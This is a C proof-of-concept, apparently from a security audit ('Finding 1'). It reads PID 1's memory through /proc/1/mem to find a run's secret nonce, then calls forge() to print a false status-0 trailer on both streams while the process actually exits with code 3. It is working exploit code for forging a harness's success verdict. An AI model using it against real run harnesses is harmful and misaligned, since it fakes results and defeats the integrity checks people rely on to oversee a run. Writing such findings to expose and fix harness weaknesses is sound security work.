/* Finding 1, read: find the run's nonce in PID 1's memory through /proc/1/mem, print a
 * trailer with status 0 on both streams, then exit 3. */
int main(void) {
    struct range r[256];
    int n = maps_of_pid1(r, 256);
    int fd = (int)result("open(/proc/1/mem, O_RDONLY)", open("/proc/1/mem", O_RDONLY));
    char nonce[33] = "";
    int found = 0;
    if (fd >= 0) {
        for (int i = 0; i < n && !found; i++) {
            if (r[i].perms[0] != 'r' || strstr(r[i].name, "vsyscall")) continue;
            size_t len = r[i].hi - r[i].lo;
            if (len > (64u << 20)) continue;
            char *buf = malloc(len);
            if (!buf) continue;
            ssize_t got = pread(fd, buf, len, (off_t)r[i].lo);
            if (got > 0 && find_nonce(buf, (size_t)got, nonce, 1)) {
                found = 1;
                say("RESULT nonce-in-pid1-memory = ok %s at %lx (%s)\n", nonce, r[i].lo, r[i].name);
            }
            free(buf);
        }
        if (!found) say("RESULT nonce-in-pid1-memory = fail errno=0 not found\n");
    }
    if (found) forge(nonce);
    return 3;
}
